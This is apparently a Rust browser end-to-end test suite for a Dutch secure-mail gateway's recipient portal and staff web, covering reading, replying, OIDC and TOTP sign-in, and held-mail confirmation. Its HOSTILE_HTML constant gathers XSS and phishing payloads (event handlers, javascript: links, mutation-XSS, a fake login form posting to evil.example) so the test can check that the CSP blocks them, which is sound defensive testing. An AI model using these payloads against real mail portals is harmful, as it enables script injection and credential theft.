//! Browser end-to-end tests of the portal: a real `zegel serve` with a real
//! SMTP sink, and Playwright driving Debian's chromium (headless) through
//! `tests/browser/portal.mjs`: the recipient's whole way (mail code from the
//! sink, SMS code from the outbox, read, download, reply with a file), the
//! sender's revoke, a message of hostile HTML opened with the CSP in force,
//! and an axe-core scan of every portal page (no serious or critical
//! violation). And the staff web through `tests/browser/staff.mjs`: sign-in
//! with TOTP, sent items with withdraw, a sender refused administration,
//! offboarding, the policy changed in the browser and applied by the
//! gateway, the domain check page (against zegel-domaincheck's test
//! world), axe-core on every staff page. And the OpenID Connect sign-in
//! through `tests/browser/oidc.mjs` against panva's oidc-provider
//! (`tests/browser/oidc_provider.mjs`). `scripts/test` installs chromium
//! and the npm packages.

mod common;

#[path = "../../zegel-domaincheck/tests/world/mod.rs"]
mod world;

use common::oidc_provider::{staff_oidc_section, OidcProvider};
use common::portal_mail::mail_to;
use common::staff_web::{add, user, PASSWORD};
use common::*;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};
use zegel_testkit::{repo_root, Sink};

const PDF: &[u8] = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";
const CHROMIUM: &str = "/usr/bin/chromium";

/// The HTML of a message that tries everything: scripts, event handlers,
/// `javascript:` and `data:` links, CSS that hides or covers the page, a
/// fake login form, a meta refresh, frames, SVG with script, mutation-XSS
/// shapes, and requests to outside hosts.
const HOSTILE_HTML: &str = r#"<html><head>
<meta http-equiv="refresh" content="1;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<style>body{display:none!important} main{visibility:hidden} .top{display:none} *{color:#fff!important}</style>
<script>window.__zegelPwned='script-head'</script>
<title>pwned</title>
</head>
<body onload="window.__zegelPwned='body-onload'">
<p>Beste mevrouw Jansen, uw BSN 111222333 staat in het dossier.</p>
<script>window.__zegelPwned='script';document.title='pwned';alert('script')</script>
<img src="x" onerror="window.__zegelPwned='img-onerror';alert('onerror')">
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<svg onload="window.__zegelPwned='svg-onload'"><script>window.__zegelPwned='svg-script'</script><a href="javascript:window.__zegelPwned='svg-link'"><text x="0" y="15">svg link</text></a></svg>
<p><a href="javascript:window.__zegelPwned='js-link';alert('js-link')">Klik hier</a></p>
<p><a href="  JaVaScRiPt:window.__zegelPwned='js-link2'">Klik ook hier</a></p>
<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a></p>
<div onclick="window.__zegelPwned='onclick'" onmouseover="window.__zegelPwned='onmouseover'">Klik op deze tekst</div>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">Sessie verlopen, log opnieuw in</div>
<div style="background-image:url(https://evil.example/bg.png)">achtergrond</div>
<p style="display:none">verborgen tekst</p>
<form action="https://evil.example/login" method="post"><label>Wachtwoord <input type="password" name="pw"></label><button>Inloggen</button></form>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="&lt;script&gt;parent.__zegelPwned='srcdoc'&lt;/script&gt;"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<details open ontoggle="window.__zegelPwned='ontoggle'"><summary>meer</summary>details</details>
<input autofocus onfocus="window.__zegelPwned='onfocus'">
<video><source onerror="window.__zegelPwned='video'"></video>
<math><mtext><table><mglyph><style><img src=x onerror="window.__zegelPwned='mxss'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.__zegelPwned='noscript'>"></p></noscript>
<table background="https://evil.example/table.png"><tr><td>cel</td></tr></table>
<img srcset="https://evil.example/srcset.png 1x" alt="srcset">
</body></html>"#;

/// Standard base64, wrapped at 76 characters.
fn base64(bytes: &[u8]) -> String {
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for (i, chunk) in bytes.chunks(3).enumerate() {
        if i > 0 && i % 19 == 0 {
            out.push_str("\r\n");
        }
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (b[0] as u32) << 16 | (b[1] as u32) << 8 | b[2] as u32;
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(T[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A secure mail from jan@zorg.nl: an HTML body and a PDF attachment.
fn mail(to: &[&str], subject: &str, html: &str, id: &str) -> String {
    format!(
        "From: Jan Jansen <jan@zorg.nl>\r\nTo: {}\r\nSubject: {subject}\r\n\
         Message-ID: <{id}@zorg.nl>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"zz\"\r\n\r\n\
         --zz\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
         --zz\r\nContent-Type: application/pdf\r\n\
         Content-Disposition: attachment; filename=\"verslag.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--zz--\r\n",
        to.join(", "),
        base64(html.as_bytes()),
        base64(PDF)
    )
}

/// The `n`th (from 1) sender's notice with a status link.
fn notice(sink: &Sink, n: usize) -> String {
    let deadline = Instant::now() + WAIT;
    loop {
        let notices: Vec<String> = sink
            .messages()
            .into_iter()
            .filter(|m| m.is_for("jan@zorg.nl"))
            .map(|m| m.decoded())
            .filter(|t| t.contains("/status/"))
            .collect();
        if let Some(text) = notices.get(n - 1) {
            return text.clone();
        }
        assert!(Instant::now() < deadline, "no sender's notice {n}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The path of the first link in `text` that contains `marker`.
fn path_of(text: &str, marker: &str) -> String {
    let at = text
        .find(marker)
        .unwrap_or_else(|| panic!("{marker} in {text}"));
    text[at..].split_whitespace().next().unwrap().to_string()
}

fn send(z: &Zegel, to: &[&str], message: &str) {
    let (status, reply) = smtplib(z.port, "jan@zorg.nl", to, message);
    assert_eq!(status, "ok", "{reply}");
}

/// Runs an UPDATE on the zegel in `dir`'s database; it must change rows.
fn sql(dir: &Path, update: &str) {
    let changed = common::sql_at(dir, &format!("{update} RETURNING 1"));
    assert!(!changed.is_empty(), "{update}: no row changed");
}

fn prerequisites() {
    let modules = repo_root().join("tests/browser/node_modules");
    for (ok, what) in [
        (Path::new(CHROMIUM).exists(), CHROMIUM),
        (modules.join("playwright-core").is_dir(), "playwright-core"),
        (modules.join("axe-core").is_dir(), "axe-core"),
    ] {
        assert!(
            ok,
            "{what} is missing: scripts/test installs Debian's chromium and runs \
             `npm ci` in tests/browser"
        );
    }
}

#[test]
fn the_portal_in_chromium_flows_hostile_html_and_accessibility() {
    prerequisites();
    let sink = Sink::start();
    let z = Zegel::start(
        &sink,
        &[
            // SMS where the sender tagged a number, else an access code.
            (
                "second_factor = \"sms_if_known\"",
                "second_factor = \"required\"",
            ),
            (
                "# contact_address = \"balie@zorg.nl\"",
                "contact_address = \"balie@zorg.nl\"",
            ),
        ],
    );
    let base = format!("http://127.0.0.1:{}", z.http_port);

    // 1. The message the recipient reads, downloads and answers (SMS code).
    let body = "<p>Beste collega,</p><p>Mevrouw Fatima el Amrani, BSN 111222333, heeft \
                diabetes. Zie het verslag.</p>";
    send(
        &z,
        &["p.bakker@example.com", "q.visser@example.org"],
        &mail(
            &["p.bakker@example.com", "q.visser@example.org"],
            "Overdracht [sms:06-12345678]",
            body,
            "browser-1",
        ),
    );
    let main_status = path_of(&notice(&sink, 1), "/status/");
    // 2. Hostile HTML (access code: no phone number known).
    send(
        &z,
        &["r.hostile@example.net"],
        &mail(
            &["r.hostile@example.net"],
            "[veilig] Uitslag <img src=x onerror=alert(9)>",
            HOSTILE_HTML,
            "browser-2",
        ),
    );
    let hostile_notice = notice(&sink, 2);
    let at = hostile_notice
        .find("r.hostile@example.net: ")
        .expect("the access code in the sender's notice")
        + 23;
    let access_code = hostile_notice[at..at + 9].to_string();
    // 3. A message that has expired.
    send(
        &z,
        &["s.verloop@example.com"],
        &mail(&["s.verloop@example.com"], "Verlopen", body, "browser-3"),
    );
    notice(&sink, 3);
    sql(
        &z.dir,
        "UPDATE secure_messages SET expires_at = 1 WHERE recipient = 's.verloop@example.com'",
    );

    let link = |rcpt: &str| path_of(&mail_to(&sink, rcpt, "/m/").decoded(), "/m/");
    let input = serde_json::json!({
        "base": base,
        "chromium": CHROMIUM,
        "sinkDir": sink.dir(),
        "smsOutbox": z.dir.join("zegel-data/sms-outbox"),
        "main": {
            "link": link("p.bakker@example.com"),
            "status": main_status,
            "address": "p.bakker@example.com",
            "masked": "p***@example.com",
            "phone": "+31612345678",
            "subject": "Overdracht",
            "attachment": "verslag.pdf",
            "attachmentBase64": base64(PDF).replace("\r\n", ""),
            "replyText": "Dank, ontvangen via de browser. Zie bijlage.",
            "replyFile": "antwoord.pdf",
        },
        "hostile": {
            "link": link("r.hostile@example.net"),
            "address": "r.hostile@example.net",
            "accessCode": access_code,
            "html": HOSTILE_HTML,
        },
        "expiredLink": link("s.verloop@example.com"),
        "english": { "link": link("q.visser@example.org") },
        "contact": {
            "address": "burger@example.org",
            "subject": "Vraag over mijn dossier",
            "text": "Hierbij mijn formulier, via de browser.",
            "file": "formulier.pdf",
        },
    });

    run_script("portal.mjs", &input);

    // What the browser sent arrived: the reply (with its file) at the
    // sender, the public page's message at the desk.
    let reply = mail_to(&sink, "jan@zorg.nl", "Dank, ontvangen via de browser");
    assert_eq!(reply.mail_from, "p.bakker@example.com");
    let text = reply.decoded();
    assert!(
        text.contains("Re: Overdracht") && text.contains("antwoord.pdf"),
        "{text}"
    );
    assert!(reply.text().contains("In-Reply-To: <browser-1@zorg.nl>"));
    let contact = mail_to(&sink, "balie@zorg.nl", "Hierbij mijn formulier");
    assert_eq!(contact.mail_from, "burger@example.org");
    assert!(contact.decoded().contains("formulier.pdf"));
}

/// Runs a browser script with `input`; fails the test unless it passes.
fn run_script(script: &str, input: &serde_json::Value) {
    let started = Instant::now();
    let out = Command::new("node")
        .arg(repo_root().join("tests/browser").join(script))
        .env("ZEGEL_BROWSER_INPUT", input.to_string())
        .output()
        .expect("node (scripts/test installs it)");
    let stdout = String::from_utf8_lossy(&out.stdout);
    println!("{stdout}");
    eprintln!("{}", String::from_utf8_lossy(&out.stderr));
    println!("browser run: {:.1} s", started.elapsed().as_secs_f64());
    assert!(
        out.status.success() && stdout.contains("RESULT: PASS"),
        "the browser run failed:\n{stdout}"
    );
}

#[test]
fn the_staff_web_in_chromium_sign_in_with_totp_withdraw_offboard_and_accessibility() {
    prerequisites();
    // The domain page checks good.test of zegel-domaincheck's test world
    // (DNS, MX and MTA-STS hosts on 127.0.0.x), never the network.
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let world = runtime.block_on(world::World::start());
    let sink = Sink::start();
    let (temp, port) = init(&sink, &[]);
    let ca = temp.path().join("ca.pem");
    std::fs::write(&ca, &world.ca_pem).unwrap();
    let config = temp.path().join("zegel.toml");
    let text = std::fs::read_to_string(&config).unwrap().replacen(
        "[domain_check]",
        &format!(
            "[domain_check]\ndomain = \"good.test\"\nsmtp_port = {}\nhttps_port = {}\nca_file = \"{}\"\n",
            world.smtp_port,
            world.https_port,
            ca.display()
        ),
        1,
    ) + &format!("\n[dns]\nservers = [\"{}\"]\n", world.dns);
    std::fs::write(&config, text).unwrap();
    let mut z = Zegel::run(temp.path(), port);
    z._temp = Some(temp);
    add(&z, "jan@zorg.nl", "sender");
    add(&z, "piet@zorg.nl", "sender");
    add(&z, "fg@zorg.nl", "admin");
    let enrolled = String::from_utf8(user(&z, &["totp", "fg@zorg.nl"], "").stdout).unwrap();
    let secret = enrolled
        .lines()
        .find_map(|l| l.strip_prefix("secret: "))
        .expect("the TOTP secret is printed");
    let to = ["p.bakker@example.com", "q.visser@example.org"];
    send(
        &z,
        &to,
        &mail(&to, "Dossier", "<p>BSN 111222333</p>", "staff-1"),
    );
    for rcpt in to {
        mail_to(&sink, rcpt, "/m/");
    }
    run_script(
        "staff.mjs",
        &serde_json::json!({
            "base": format!("http://127.0.0.1:{}", z.http_port),
            "chromium": CHROMIUM,
            "sender": "jan@zorg.nl",
            "admin": "fg@zorg.nl",
            "composer": "piet@zorg.nl",
            "password": PASSWORD,
            "adminSecret": secret,
        }),
    );
    // The policy set in the browser is the gateway's now: secure mail is
    // refused with the reasons.
    let (status, reply) = smtplib(
        z.port,
        "fg@zorg.nl",
        &["p.bakker@example.com"],
        "From: fg@zorg.nl\r\nTo: p.bakker@example.com\r\nSubject: [geheim] Agenda\r\n\r\nTot dinsdag.\r\n",
    );
    assert_eq!(status, "refused", "{reply}");
    assert!(reply.starts_with('5'), "{reply}");
    // wijkzorg.nl, made internal in the browser, is internal for the
    // gateway: a BSN to it is not refused, the original arrives.
    let (status, reply) = smtplib(
        z.port,
        "fg@zorg.nl",
        &["c.dekker@wijkzorg.nl"],
        "From: fg@zorg.nl\r\nTo: c.dekker@wijkzorg.nl\r\nSubject: Overdracht\r\n\r\nBSN 111222333.\r\n",
    );
    assert_eq!(status, "ok", "{reply}");
    mail_to(&sink, "c.dekker@wijkzorg.nl", "BSN 111222333");
}

#[test]
fn the_staff_web_in_chromium_signs_in_through_openid_connect() {
    prerequisites();
    common::oidc_provider::prerequisites();
    // The provider on 127.0.0.2: another site than zegel's 127.0.0.1, so
    // chromium applies its cross-site cookie rules to the way back.
    let sink = Sink::start();
    let provider_port = zegel_testkit::free_port();
    let issuer = format!("http://127.0.0.2:{provider_port}");
    let section = staff_oidc_section(&issuer, "Zorg-ID");
    let z = Zegel::start(&sink, &[("[staff_oidc]", &section)]);
    let provider = OidcProvider::start(
        "127.0.0.2",
        provider_port,
        &format!("http://127.0.0.1:{}/app/login/oidc/callback", z.http_port),
    );
    add(&z, "jan@zorg.nl", "sender");
    add(&z, "fg@zorg.nl", "admin");
    let enrolled = String::from_utf8(user(&z, &["totp", "fg@zorg.nl"], "").stdout).unwrap();
    let secret = enrolled
        .lines()
        .find_map(|l| l.strip_prefix("secret: "))
        .expect("the TOTP secret is printed");
    run_script(
        "oidc.mjs",
        &serde_json::json!({
            "base": format!("http://127.0.0.1:{}", z.http_port),
            "issuer": provider.issuer,
            "chromium": CHROMIUM,
            "label": "Zorg-ID",
            "sender": "jan@zorg.nl",
            "senderLogin": "jan",
            "unknownLogin": "onbekend",
            "unverifiedLogin": "ongeverifieerd",
            "adminLogin": "fg",
            "adminSecret": secret,
        }),
    );
}

/// A plain mail (nothing sensitive) from jan@zorg.nl to `to`.
fn plain_mail(to: &[&str], subject: &str) -> String {
    format!(
        "From: Jan Jansen <jan@zorg.nl>\r\nTo: {}\r\nSubject: {subject}\r\n\
         Message-ID: <{}@zorg.nl>\r\n\r\nDonderdag om tien uur, agenda volgt.\r\n",
        to.join(", "),
        subject.replace(' ', "-")
    )
}

/// The confirmation link in the sender's notice that names `rcpt`.
fn confirm_link(sink: &Sink, rcpt: &str) -> String {
    let deadline = Instant::now() + WAIT;
    loop {
        let found = sink
            .messages()
            .into_iter()
            .filter(|m| m.is_for("jan@zorg.nl"))
            .map(|m| m.decoded())
            .find(|t| t.contains("/confirm/") && t.contains(rcpt));
        if let Some(text) = found {
            return path_of(&text, "/confirm/");
        }
        assert!(Instant::now() < deadline, "no confirmation link for {rcpt}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// The header block of the message `rcpt` got.
fn headers_for(sink: &Sink, rcpt: &str) -> String {
    let m = mail_to(sink, rcpt, "");
    let text = m.text();
    text.split("\r\n\r\n")
        .next()
        .unwrap_or_default()
        .to_string()
}

#[test]
fn held_mail_is_confirmed_cancelled_and_split_by_its_sender_in_chromium() {
    prerequisites();
    let sink = Sink::start();
    let z = Zegel::start(
        &sink,
        &[(
            "visible_external = \"warn\"",
            "visible_external = \"hold\"\nvisible_external_threshold = 3",
        )],
    );
    let separate = [
        "a.visser@example.com",
        "b.smit@example.org",
        "c.mulder@example.net",
    ];
    send(
        &z,
        &["piet@zorg-nl.com"],
        &plain_mail(&["piet@zorg-nl.com"], "Agenda"),
    );
    send(
        &z,
        &["els@zorgg.nl"],
        &plain_mail(&["els@zorgg.nl"], "Notulen"),
    );
    send(&z, &separate, &plain_mail(&separate, "Uitnodiging"));
    let input = serde_json::json!({
        "base": format!("http://127.0.0.1:{}", z.http_port),
        "chromium": CHROMIUM,
        "confirm": {
            "link": confirm_link(&sink, "piet@zorg-nl.com"),
            "recipient": "piet@zorg-nl.com",
            "reason": "zorg-nl.com",
        },
        "cancel": {
            "link": confirm_link(&sink, "els@zorgg.nl"),
            "recipient": "els@zorgg.nl",
            "reason": "zorgg.nl",
        },
        "separate": {
            "link": confirm_link(&sink, "a.visser@example.com"),
            "recipient": "b.smit@example.org",
            "reason": "zichtbaar in Aan/Cc",
        },
    });
    assert!(
        sink.messages()
            .iter()
            .all(|m| !m.is_for("piet@zorg-nl.com") && !m.is_for("a.visser@example.com")),
        "held until the sender chooses"
    );

    run_script("confirm.mjs", &input);

    // Confirmed: the original reached the look-alike domain.
    mail_to(&sink, "piet@zorg-nl.com", "Donderdag om tien uur");
    // A copy each: every one names its own recipient alone.
    for rcpt in separate {
        let headers = headers_for(&sink, rcpt);
        for other in separate.iter().filter(|o| **o != rcpt) {
            assert!(
                !headers.contains(other),
                "{rcpt}'s copy shows {other}:\n{headers}"
            );
        }
        assert!(headers.contains(&format!("To: {rcpt}")), "{headers}");
    }
    // Cancelled: never sent.
    std::thread::sleep(Duration::from_secs(2));
    assert!(sink.messages().iter().all(|m| !m.is_for("els@zorgg.nl")));
    let events = common::sql_at(
        &z.dir,
        "SELECT event FROM audit WHERE event LIKE 'held_%' ORDER BY seq",
    );
    for event in [
        "held_confirmed",
        "held_cancelled",
        "held_confirmed_separately",
    ] {
        assert!(
            events.contains(event),
            "{event} in the audit trail: {events}"
        );
    }
}
